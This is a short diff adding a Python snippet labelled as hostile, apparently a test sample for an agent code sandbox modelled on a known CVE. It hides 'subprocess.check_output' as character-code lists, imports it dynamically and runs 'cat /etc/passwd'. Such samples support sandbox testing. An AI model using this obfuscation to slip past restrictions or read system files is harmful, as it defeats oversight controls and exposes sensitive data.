@@ -1,0 +1,5 @@
+# hostile: module and attribute names spelled as character codes (smolagents CVE-2025-5120 style)
+name = "".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])
+attr = "".join(map(chr, [99, 104, 101, 99, 107, 95, 111, 117, 116, 112, 117, 116]))
+mod = __import__(name)
+print(getattr(mod, attr)(["cat", "/etc/passwd"]))
